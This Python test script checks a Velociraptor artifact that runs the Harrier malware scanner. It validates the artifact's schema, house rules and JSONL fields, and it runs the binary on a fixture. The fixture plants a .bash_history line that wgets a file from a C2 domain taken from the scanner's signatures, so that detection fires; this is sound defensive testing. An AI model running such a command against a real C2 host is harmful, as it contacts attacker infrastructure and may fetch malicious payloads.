#!/usr/bin/python3
"""Checks contrib/velociraptor/Custom.Harrier.Scan.yaml without a
Velociraptor server (there is none in Debian):

1. the artifact validates against contrib/velociraptor/artifact.schema.json,
   the fields and types of Velociraptor's documented artifact format, and
   that schema refuses a misspelt field, an unknown parameter type, a
   nameless tool and a bad artifact name (so it is not vacuous);
2. house rules: a CLIENT artifact needing EXECVE, the tool Harrier served by
   the server, every parameter default a string and every parameter used;
3. every JSONL field the VQL reads (J.a.b.c) exists in Harrier's JSONL
   schema (docs/jsonl.schema.json) for a finding or a summary line, so the
   artifact cannot drift from the format;
4. with --harrier: every option the VQL passes exists in
   `harrier scan --help-all`, and the binary, run with the artifact's
   default arguments on a tree holding a C2 domain of the built-in
   signatures, writes only JSON on standard output, one finding and a
   summary whose fields the VQL's columns resolve to the expected values.

usage: velociraptor_artifact_test.py [--source DIR] [--harrier BINARY]
Exit 0 passed, 1 failed. Needs python3-yaml and python3-jsonschema.
"""
import argparse
import copy
import json
import os
import re
import subprocess
import sys
import tempfile

import jsonschema
import yaml

from contrib_test_util import finish, first_c2_domain

ARTIFACT = "contrib/velociraptor/Custom.Harrier.Scan.yaml"
SCHEMA = "contrib/velociraptor/artifact.schema.json"
JSONL_SCHEMA = "docs/jsonl.schema.json"
FIELD_RE = re.compile(r"\bJ((?:\.[A-Za-z_][A-Za-z0-9_]*)+)")


def schema_errors(validator, doc):
    return [f"{'/'.join(map(str, e.absolute_path)) or '(top)'}: {e.message}"
            for e in validator.iter_errors(doc)]


def resolve_schema(defs, node, parts):
    """True when the dotted path PARTS leads somewhere in the JSON Schema
    NODE. An array is looked through, as VQL maps a.b over a list of
    dicts."""
    while True:
        if "$ref" in node:
            node = defs[node["$ref"].split("/")[-1]]
        elif node.get("type") == "array" and "items" in node:
            node = node["items"]
        else:
            break
    if not parts:
        return True
    props = node.get("properties", {})
    return parts[0] in props and resolve_schema(defs, props[parts[0]], parts[1:])


def resolve_value(obj, parts):
    """The value VQL gives J.a.b for the parsed line OBJ: None when a member
    is missing; over a list, the list of the members' values."""
    for i, p in enumerate(parts):
        if isinstance(obj, list):
            return [resolve_value(x, parts[i:]) for x in obj]
        if not isinstance(obj, dict) or p not in obj:
            return None
        obj = obj[p]
    return obj



def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--source", default=os.path.join(os.path.dirname(__file__), "../.."))
    ap.add_argument("--harrier", default="")
    args = ap.parse_args()
    src = os.path.abspath(args.source)
    failures = []

    with open(os.path.join(src, SCHEMA), encoding="utf-8") as f:
        schema = json.load(f)
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    with open(os.path.join(src, ARTIFACT), encoding="utf-8") as f:
        art = yaml.safe_load(f)

    # 1. The documented artifact format.
    failures += [f"schema: {e}" for e in schema_errors(validator, art)]
    mutants = {
        "a misspelt top-level field": lambda a: a.update(paramters=a.pop("parameters")),
        "an unknown parameter type": lambda a: a["parameters"][0].update(type="integr"),
        "a tool without a name": lambda a: a["tools"][0].pop("name"),
        "a name with '-'": lambda a: a.update(name="Custom.Harrier-Scan"),
        "a source with query and queries": lambda a: a["sources"][0].update(queries=["SELECT 1"]),
    }
    for what, mutate in mutants.items():
        bad = copy.deepcopy(art)
        mutate(bad)
        if validator.is_valid(bad):
            failures.append(f"schema accepts {what}")

    # 2. House rules.
    query = "\n".join(s.get("query", "") for s in art.get("sources", []))
    if art.get("type") != "CLIENT":
        failures.append(f"type {art.get('type')!r}, expected CLIENT")
    if "EXECVE" not in art.get("required_permissions", []):
        failures.append("required_permissions lacks EXECVE")
    if {"name": "Harrier", "serve_locally": True} not in art.get("tools", []):
        failures.append("no tool Harrier with serve_locally")
    if 'ToolName="Harrier"' not in query:
        failures.append("the query does not fetch the tool Harrier")
    for p in art.get("parameters", []):
        if not isinstance(p.get("default"), str):
            failures.append(f"parameter {p['name']}: default is not a string")
        if not re.search(r"\b%s\b" % re.escape(p["name"]), query):
            failures.append(f"parameter {p['name']} is not used in the query")

    # 3. The JSONL fields the VQL reads.
    with open(os.path.join(src, JSONL_SCHEMA), encoding="utf-8") as f:
        jsonl = json.load(f)
    defs = jsonl["$defs"]
    fields = sorted({m.group(1)[1:] for m in FIELD_RE.finditer(query)})
    if len(fields) < 20:
        failures.append(f"found only {len(fields)} JSONL fields in the query: {fields}")
    for field in fields:
        if not any(resolve_schema(defs, defs[t], field.split(".")) for t in ("finding", "summary")):
            failures.append(f"the query reads J.{field}, which {JSONL_SCHEMA} does not have")
    if resolve_schema(defs, defs["finding"], ["harrier", "no_such_field"]):
        failures.append("the field check accepts a field that does not exist")
    print(f"{len(fields)} JSONL fields read by the VQL: {', '.join(fields)}")

    # 4. The real binary.
    if args.harrier:
        harrier = os.path.abspath(args.harrier)
        helptext = subprocess.run([harrier, "scan", "--help-all"], stdout=subprocess.PIPE,
                                  text=True, check=False).stdout
        flags = sorted(set(re.findall(r'"(-[-a-z]+)"', query)) - {"--"})
        for flag in flags:
            if not re.search(r"(^|[\s,])%s\b" % re.escape(flag), helptext):
                failures.append(f"the query passes {flag}, which harrier scan does not know")
        m = re.search(r"LET ScanArgs <= \[([^\]]*)\]", query)
        base = re.findall(r'"([^"]*)"', m.group(1)) if m else []
        if base[:4] != ["scan", "--jsonl", "-", "--no-progress"]:
            failures.append(f"unexpected ScanArgs {base}")
        defaults = {p["name"]: p["default"] for p in art["parameters"]}
        with tempfile.TemporaryDirectory(prefix="harrier-vr-") as tmp:
            planted = os.path.join(tmp, "root/home/eve/.bash_history")
            os.makedirs(os.path.dirname(planted))
            with open(planted, "w", encoding="utf-8") as f:
                f.write(f"wget http://{first_c2_domain(src)}/a\n")
            # The argv the VQL builds from the default parameters.
            argv = ([harrier] + base + ["--cpu-limit", defaults["CpuLimit"], "--nice",
                                        "--no-rules-cache", "--", os.path.join(tmp, "root")])
            r = subprocess.run(argv, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                               text=True, check=False, timeout=120)
        lines = [l for l in r.stdout.split("\n") if l]
        if r.returncode != 1:
            failures.append(f"{argv}: exit code {r.returncode}, expected 1: {r.stderr}")
        if any(not l.startswith("{") for l in lines):
            failures.append("standard output holds lines that are not JSON")
        rows = [json.loads(l) for l in lines if l.startswith("{")]
        col = lambda j, path: resolve_value(j, path.split("."))
        finds = [j for j in rows if col(j, "harrier.type") == "finding"]
        sums = [j for j in rows if col(j, "harrier.type") == "summary"]
        if len(finds) != 1 or len(sums) != 1:
            failures.append(f"{len(finds)} findings and {len(sums)} summaries, expected 1 and 1")
        else:
            f, s = finds[0], sums[0]
            expect = [
                (f, "harrier.level", "alert"),
                (f, "harrier.subject.display", planted),
                (f, "file.hash.sha256", re.compile(r"^[0-9a-f]{64}$")),
                (f, "harrier.reasons.name", [first_c2_domain(src)]),
                (f, "harrier.reasons.type", ["c2"]),
                (s, "harrier.verdict", "alert"),
                (s, "harrier.exit_code", 1),
                (s, "harrier.findings.alert", 1),
                (s, "harrier.files_scanned", 1),
            ]
            for j, path, want in expect:
                got = col(j, path)
                ok = want.match(str(got)) if isinstance(want, re.Pattern) else got == want
                if not ok:
                    failures.append(f"column from J.{path}: {got!r}, expected {want!r}")
            score = col(f, "harrier.score")
            if not isinstance(score, (int, float)) or score < 80:
                failures.append(f"J.harrier.score {score!r}, expected an alert score")

    return finish(failures)


if __name__ == "__main__":
    sys.exit(main())
